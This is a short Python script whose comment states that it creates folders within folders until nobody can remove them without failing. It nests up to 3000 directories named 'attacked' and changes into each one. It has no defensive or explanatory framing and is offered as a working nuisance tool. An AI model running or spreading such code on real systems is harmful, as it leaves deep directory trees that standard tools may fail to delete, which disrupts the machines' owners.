# what: makes folders within folders until nobody can remove them any more without failing
import os

made = 0


def double(x, times=2):
    global made
    try:
        while made < 3000:
            os.mkdir("attacked")
            os.chdir("attacked")
            made += 1
    except OSError as error:
        print(error)
    print(made)
